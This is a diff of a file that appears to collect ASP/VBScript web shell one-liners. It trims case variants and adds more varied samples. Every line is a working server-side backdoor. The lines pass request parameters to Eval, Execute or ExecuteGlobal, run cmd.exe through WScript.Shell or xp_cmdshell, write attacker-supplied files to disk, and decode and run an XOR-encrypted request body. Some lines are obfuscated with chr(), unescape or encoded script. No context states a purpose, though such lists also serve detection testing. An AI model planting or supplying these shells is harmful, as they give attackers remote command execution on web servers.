@@ -1,67 +1,30 @@
-<%CreateObject("WScript.Shell").Exec(Request("c"))%>
-<%CreateObject("WScript.Shell").exec(Request("c"))%>
-<%CreateObject("WScript.Shell").Run(Request("c"))%>
-<%Set s = Server.CreateObject("WSCRIPT.SHELL")%>
-<%Set s = Server.CreateObject("wscript.shell")%>
-<%Set a = Server.CreateObject("Shell.Application")%>
-<%Set a = Server.CreateObject("shell.application")%>
-<%Set x = s.exec("cmd.exe /c "&Request("c"))%>
-<%Set x = s.Exec("cmd /c "&Request("c"))%>
-<%s.Run "cmd.exe /c "&request("c")%>
-<%s.Run "cmd.exe /c " & Request("c")%>
-<%Execute(Request.Form("x"))%>
-<%execute(request.form("x"))%>
-<%eval request("x")%>
-<%eval(request("x"))%>
-<%eval Request("x")%>
-<%eval(Request("x"))%>
-<%eval REQUEST("x")%>
-<%eval(REQUEST("x"))%>
-<%Eval request("x")%>
-<%Eval(request("x"))%>
-<%Eval Request("x")%>
-<%Eval(Request("x"))%>
-<%Eval REQUEST("x")%>
-<%Eval(REQUEST("x"))%>
-<%EVAL request("x")%>
-<%EVAL(request("x"))%>
-<%EVAL Request("x")%>
-<%EVAL(Request("x"))%>
 <%EVAL REQUEST("x")%>
-<%EVAL(REQUEST("x"))%>
-<%execute request("x")%>
-<%execute(request("x"))%>
-<%execute Request("x")%>
-<%execute(Request("x"))%>
-<%execute REQUEST("x")%>
-<%execute(REQUEST("x"))%>
-<%Execute request("x")%>
-<%Execute(request("x"))%>
-<%Execute Request("x")%>
-<%Execute(Request("x"))%>
-<%Execute REQUEST("x")%>
-<%Execute(REQUEST("x"))%>
+<% Eval   Request ( "x" ) %>
+<%eval(Request.Form("x"))%>
+<%Eval(request.item("x"))%>
 <%EXECUTE request("x")%>
-<%EXECUTE(request("x"))%>
-<%EXECUTE Request("x")%>
-<%EXECUTE(Request("x"))%>
-<%EXECUTE REQUEST("x")%>
-<%EXECUTE(REQUEST("x"))%>
-<%executeglobal request("x")%>
-<%executeglobal(request("x"))%>
-<%executeglobal Request("x")%>
-<%executeglobal(Request("x"))%>
-<%executeglobal REQUEST("x")%>
-<%executeglobal(REQUEST("x"))%>
-<%ExecuteGlobal request("x")%>
-<%ExecuteGlobal(request("x"))%>
+<% execute   (  Request("x") ) %>
 <%ExecuteGlobal Request("x")%>
-<%ExecuteGlobal(Request("x"))%>
-<%ExecuteGlobal REQUEST("x")%>
-<%ExecuteGlobal(REQUEST("x"))%>
-<%EXECUTEGLOBAL request("x")%>
-<%EXECUTEGLOBAL(request("x"))%>
-<%EXECUTEGLOBAL Request("x")%>
-<%EXECUTEGLOBAL(Request("x"))%>
-<%EXECUTEGLOBAL REQUEST("x")%>
-<%EXECUTEGLOBAL(REQUEST("x"))%>
+<%executeGLOBAL(request.form("x"))%>
+<%execute(request(chr(35)))%>
+<%Execute(Session("code"))%>
+<%a=request("x")%><%Execute a%>
+<%y=Request("p")%><%eval y%>
+<%execute(unescape("%65%76%61%6c"))%>
+<%ExecuteGlobal(StrReverse("x"))%>
+<%eval(eval(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))("x"))%>
+<%Set o = Server.CreateObject("ScriptControl") : o.Language = "vbscript" : o.AddCode(Request("c"))%>
+<%Set s = CreateObject("WScript.Shell") : s.Run Request("c")%>
+<%Set s = Server.CreateObject("wscript.shell") : Set e = s.Exec("cmd.exe /c " & Request.Form("c"))%>
+<%Set a = CreateObject("Shell.Application") : a.ShellExecute Request("f")%>
+<%Set s = CreateObject("WScript.Shell") : Response.Write s.Exec("cmd /c " & Request("c")).StdOut.ReadAll%>
+<object runat=server id=s scope=page classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
+<%@ LANGUAGE = VBScript.Encode %><%#@~^AQAAAA==x^#~@%>
+<%@ CodePage = 65000 %>
+<%Set st = Server.CreateObject("ADODB.Stream") : st.WriteText Request("d") : st.SaveToFile Server.MapPath(Request("p")), 2%>
+<%Set f = fso.CreateTextFile(Request("p"), True) : f.Write Request("d")%>
+<%if Session("pw") <> "go" then Response.End%>
+<%Server.ScriptTimeout = 999999999%>
+<%Set c = Request.BinaryRead(Request.TotalBytes) : for i=1 to n : r = r & chr(ascb(midb(c,i,1)) Xor k) : next : Execute(r)%>
+<%Set conn = Server.CreateObject("ADODB.Connection") : conn.Execute("exec master..xp_cmdshell '" & Request("c") & "'")%>
+<%Set n = CreateObject("WScript.Network") : Response.Write n.ComputerName & Request("x")%>
